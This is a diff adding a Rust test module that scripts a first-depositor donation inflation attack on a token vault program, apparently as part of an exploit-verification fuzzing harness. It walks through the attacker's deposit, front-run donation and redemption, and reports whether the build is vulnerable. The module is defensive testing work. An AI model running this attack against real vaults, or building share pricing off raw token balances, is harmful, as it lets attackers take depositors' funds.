@@ -0,0 +1,98 @@
+//! First-depositor donation inflation.
+//!
+//! Shares are priced off the vault token account balance, which anyone can
+//! raise with a plain token transfer. The attacker deposits one token into an
+//! empty vault, donates a large amount to push the price of that single share
+//! up, and the victim's deposit then rounds down to far fewer shares than it
+//! paid for. Redeeming afterwards, the attacker walks away with part of the
+//! victim's deposit.
+
+use fuzz_helpers::fuzz_core::sequence::Sender;
+use fuzz_helpers::*;
+
+use crate::{FuzzResult, Verdict};
+
+/// Whether this build includes the code path the exploit targets
+/// (`vuln-inflation`)
+pub const ENABLED: bool = vault_pda::VULN_INFLATION;
+
+/// Tokens the attacker donates after its one-token deposit
+const DONATION: u64 = 1_000_000;
+
+/// The victim deposits just under two shares' worth, so one share is minted
+/// and almost half the deposit is rounded away
+const VICTIM_DEPOSIT: u64 = 2 * (DONATION + 1) - 1;
+
+/// The attacker front-runs the first real deposit with a donation
+pub async fn run() -> FuzzResult<Verdict> {
+    let (mut env, setup) =
+        setup_complete_environment(VICTIM_DEPOSIT, 6, TokenFlavor::SplToken).await?;
+    let victim = &setup.user;
+    let attacker = Attacker::new(
+        &mut env.context,
+        &setup.underlying,
+        &setup.vault,
+        1,
+        DONATION,
+    )
+    .await?;
+    let mut sender = Sender::default();
+
+    // 1. One-token deposit: the attacker holds the only share
+    if let Err(e) = sender
+        .deposit_as(&mut env, &setup.vault, &attacker.position, 1)
+        .await?
+    {
+        return Ok(Verdict::Patched(format!("first deposit rejected: {:?}", e)));
+    }
+
+    // 2. Seeing the victim's deposit pending, the attacker donates straight
+    //    into the vault token account ahead of it
+    let pending = deposit_ix(&env.program_id, &setup.vault, &victim, VICTIM_DEPOSIT);
+    let donation = attacker.donate_ix(&setup.vault, DONATION)?;
+    let front_run = attacker
+        .front_run(&mut env, &mut sender, donation, pending, &[&victim.owner])
+        .await?;
+    if let Err(e) = front_run.attack {
+        return Ok(Verdict::Patched(format!("donation rejected: {:?}", e)));
+    }
+
+    // 3. The victim's deposit lands at the inflated price
+    if let Err(e) = front_run.pending {
+        return Ok(Verdict::Patched(format!(
+            "victim deposit rejected: {:?}",
+            e
+        )));
+    }
+
+    // 4. The attacker redeems its single share
+    let shares =
+        get_token_balance(&mut env.context, &attacker.position.share_token_account).await?;
+    if let Err(e) = sender
+        .redeem_as(&mut env, &setup.vault, &attacker.position, shares)
+        .await?
+    {
+        return Ok(Verdict::Patched(format!("redeem rejected: {:?}", e)));
+    }
+
+    let spent = DONATION + 1;
+    let received = get_token_balance(
+        &mut env.context,
+        &attacker.position.underlying_token_account,
+    )
+    .await?;
+    Ok(if received > spent {
+        Verdict::Vulnerable(format!(
+            "attacker spent {} and redeemed {}, taking {} of the victim's {}",
+            spent,
+            received,
+            received - spent,
+            VICTIM_DEPOSIT
+        ))
+    } else {
+        Verdict::Patched(format!(
+            "attacker spent {} and redeemed only {}",
+            spent, received
+        ))
+    })
+}